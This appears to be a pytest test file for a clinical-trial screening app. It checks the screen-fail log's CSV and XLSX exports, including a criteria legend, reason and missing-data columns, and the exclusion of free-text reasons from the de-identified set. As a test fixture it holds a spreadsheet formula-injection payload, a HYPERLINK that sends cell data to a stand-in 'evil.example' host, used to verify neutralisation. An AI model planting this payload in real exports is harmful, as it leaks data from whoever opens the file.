"""The exports' criteria legend (a second XLSX sheet, a CSV of its own) and the columns that say why: the failing
criteria's summaries, what an incomplete screening lacks, the enrollment outcome's label and, in the limited and
identified sets only, its free-text reason; every cell still inert in a spreadsheet."""

import csv
import io
from datetime import date

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from review import exports
from screening.models import CriterionOutcome
from trials.models import Criterion
from trials.services import criteria_version_create_amendment

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"Open chart")'
REASON = "Moving to Dayton with her daughter Jane Roe on 2026-05-01"  # the kind of thing a coordinator types


def csv_rows(client, name="review:log_export_csv", **params):
    response = client.get(reverse(name), params)
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def csv_records(client, **params):
    header, *rows = csv_rows(client, **params)
    return [dict(zip(header, row, strict=True)) for row in rows]


def xlsx_workbook(client, **params):
    response = client.get(reverse("review:log_export_xlsx"), params)
    assert response.status_code == 200
    return load_workbook(io.BytesIO(b"".join(response.streaming_content)))


def sheet_records(sheet):
    header, *rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    return [dict(zip(header, row, strict=True)) for row in rows]


@pytest.fixture
def outcomes(screening_for):
    """A screening with outcomes written by hand (no engine): (code, status, missing labels) in the record's order."""

    def make(verdict, rows, **screening):
        record = screening_for(screening_date=date(2026, 3, 10), **screening)
        record.status, record.verdict = "evaluated", verdict
        record.save()
        for order, (code, status, missing) in enumerate(rows):
            CriterionOutcome.objects.create(
                screening=record,
                order=order,
                code=code,
                kind="exclusion" if code.startswith("EX") else "inclusion",
                text=f"text {code}",
                summary=f"summary {code}",
                status=status,
                reason=f"reason {code} quoting the candidate's 2026-03-01",
                missing=[{"field": label.lower().replace(" ", "_"), "label": label} for label in missing],
            )
        return record

    return make


@pytest.fixture
def ineligible_and_incomplete(outcomes):
    return {
        "ineligible": outcomes(
            "ineligible", [("IN16", "not_met", ()), ("IN14", "met", ()), ("EX11", "not_met", ()), ("EX03", "met", ())]
        ),
        "incomplete": outcomes(
            "incomplete",
            [
                ("IN16", "unknown", ("ANC", "Date of the ANC")),
                ("IN14", "met", ()),
                ("EX11", "unknown", ("Concomitant medications", "ANC")),  # ANC again: listed once
                ("EX03", "not_met", ()),
            ],
        ),
    }


def by_number(records, screening):
    return next(record for record in records if record["screening_number"] == screening.number)


def test_the_xlsx_has_a_criteria_legend_sheet_with_every_criterion_of_the_version(
    client_for, investigator, active_version, screening_for
):
    screening_for()
    criteria_version_create_amendment(source=active_version, label="Amendment in draft")  # no screening uses it
    workbook = xlsx_workbook(client_for(investigator))
    assert workbook.sheetnames == ["Screen-fail log", "Criteria legend"]
    main, legend = workbook["Screen-fail log"], workbook["Criteria legend"]
    assert main.freeze_panes == "A2"
    assert main.auto_filter.ref == f"A1:{main.cell(1, main.max_column).column_letter}2"
    assert legend.freeze_panes == "A2"
    assert legend.auto_filter.ref == f"A1:E{legend.max_row}"
    assert [cell.value for cell in legend[1]] == ["criteria_version", "code", "kind", "text", "summary"]
    rows = sheet_records(legend)
    shipped = Criterion.objects.filter(version=active_version).order_by("order")
    assert [row["code"] for row in rows] == [criterion.code for criterion in shipped]
    assert {row["criteria_version"] for row in rows} == {active_version.label}
    for row, criterion in zip(rows, shipped, strict=True):
        assert row["text"] == exports.neutralised(criterion.text)
        assert row["summary"] == exports.neutralised(criterion.summary)
        assert row["kind"] == criterion.kind
    assert {row["kind"] for row in rows} == {"inclusion", "exclusion"}
    assert legend.column_dimensions["D"].width >= 60  # the record's sentences are long


def test_the_legend_csv_is_a_download_of_its_own_linked_from_the_log(
    client_for, investigator, active_version, screening_for
):
    screening_for()
    client = client_for(investigator)
    response = client.get(reverse("review:log_legend_csv"))
    assert response["Content-Type"].startswith("text/csv")
    assert "criteria-legend" in response["Content-Disposition"]
    header, *rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert header == ["criteria_version", "code", "kind", "text", "summary"]
    expected = Criterion.objects.filter(version=active_version).order_by("order").values_list("code", "text")
    assert [(row[1], row[3]) for row in rows] == [(code, exports.neutralised(text)) for code, text in expected]
    page = client.get(reverse("review:log"), {"cohort": "phase1"}).content.decode()
    assert f'href="{reverse("review:log_legend_csv")}?cohort=phase1"' in page
    # The legend follows the filters: no screening, no criteria version, no rows.
    assert csv_rows(client, "review:log_legend_csv", date_from="2099-01-01") == [header]


def test_an_ineligible_screening_says_which_criteria_failed_and_an_incomplete_one_what_is_missing(
    client_for, investigator, ineligible_and_incomplete
):
    records = csv_records(client_for(investigator))
    ineligible = by_number(records, ineligible_and_incomplete["ineligible"])
    assert ineligible["failed_criteria"] == "IN16 EX11"
    assert ineligible["failed_reasons"] == "IN16: summary IN16; EX11: summary EX11"
    assert ineligible["missing"] == ""
    incomplete = by_number(records, ineligible_and_incomplete["incomplete"])
    assert incomplete["missing"] == "ANC; Date of the ANC; Concomitant medications"
    assert incomplete["failed_reasons"] == "EX03: summary EX03"
    assert "2026-03-01" not in str(records)  # the engine's reasons quote the candidate's dates: not exported

    sheet = xlsx_workbook(client_for(investigator))["Screen-fail log"]
    cells = {row["screening_number"]: row for row in sheet_records(sheet)}
    assert cells[ineligible["screening_number"]]["failed_reasons"] == "IN16: summary IN16; EX11: summary EX11"
    assert cells[incomplete["screening_number"]]["missing"] == "ANC; Date of the ANC; Concomitant medications"


def test_the_new_columns_cost_no_query_per_screening(client_for, investigator, outcomes, django_assert_max_num_queries):
    client = client_for(investigator)
    outcomes("incomplete", [("IN16", "unknown", ("ANC",)), ("EX11", "not_met", ())])
    with django_assert_max_num_queries(30) as few:
        assert "missing" in csv_rows(client)[0]
    for _ in range(8):
        outcomes("incomplete", [("IN16", "unknown", ("ANC",)), ("EX11", "not_met", ())])
    with django_assert_max_num_queries(len(few.captured_queries)):
        assert [record["missing"] for record in csv_records(client)] == ["ANC"] * 9


def test_the_enrollment_outcome_is_its_label_and_its_free_text_reason_is_not_in_the_deidentified_set(
    client_for, investigator, administrator, screening_for
):
    screening = screening_for()
    screening.enrollment, screening.enrollment_reason = "declined", REASON
    screening.save()
    header, *rows = csv_rows(client_for(investigator))
    sheet = xlsx_workbook(client_for(investigator))["Screen-fail log"]
    exported = {
        "csv": (dict(zip(header, rows[0], strict=True)), " ".join(header + rows[0])),
        "xlsx": (sheet_records(sheet)[0], " ".join(str(v) for row in sheet.iter_rows(values_only=True) for v in row)),
    }
    for record, flat in exported.values():
        assert record["enrollment"] == "Declined by the candidate"
        assert "enrollment_reason" not in record
        for part in ("Dayton", "Jane Roe", REASON):
            assert part not in flat
    assert "enrollment_reason" not in exports.columns(exports.DEIDENTIFIED)

    for data_set in ("limited", "identified"):
        (record,) = csv_records(client_for(administrator), **{data_set: "1"})
        assert record["enrollment_reason"] == REASON
        assert record["enrollment"] == "Declined by the candidate"


def test_a_formula_in_the_enrollment_reason_is_neutralised(client_for, administrator, screening_for):
    screening = screening_for()
    screening.enrollment, screening.enrollment_reason = "not_enrolled", INJECTION
    screening.save()
    (record,) = csv_records(client_for(administrator), limited="1")
    assert record["enrollment_reason"] == "'" + INJECTION
    sheet = xlsx_workbook(client_for(administrator), identified="1")["Screen-fail log"]
    header = [cell.value for cell in sheet[1]]
    cell = sheet.cell(row=2, column=header.index("enrollment_reason") + 1)
    assert cell.value == "'" + INJECTION
    assert cell.data_type == "s"


def test_the_legend_is_neutralised_too(client_for, investigator, active_version, publish, screening_for):
    publish(criteria_version_create_amendment(source=active_version, label=INJECTION))
    screening_for()  # on the amendment, now the active version
    legend = xlsx_workbook(client_for(investigator))["Criteria legend"]
    cells = [cell for row in legend.iter_rows(min_row=2) for cell in row]
    assert cells
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert all(cell.data_type == "s" for cell in cells if isinstance(cell.value, str))
    assert not [cell.value for cell in cells if str(cell.value).startswith(FORMULA_STARTS)]
    assert {row["criteria_version"] for row in sheet_records(legend)} == {"'" + INJECTION}
    rows = csv_rows(client_for(investigator), "review:log_legend_csv")
    assert {row[0] for row in rows[1:]} == {"'" + INJECTION}
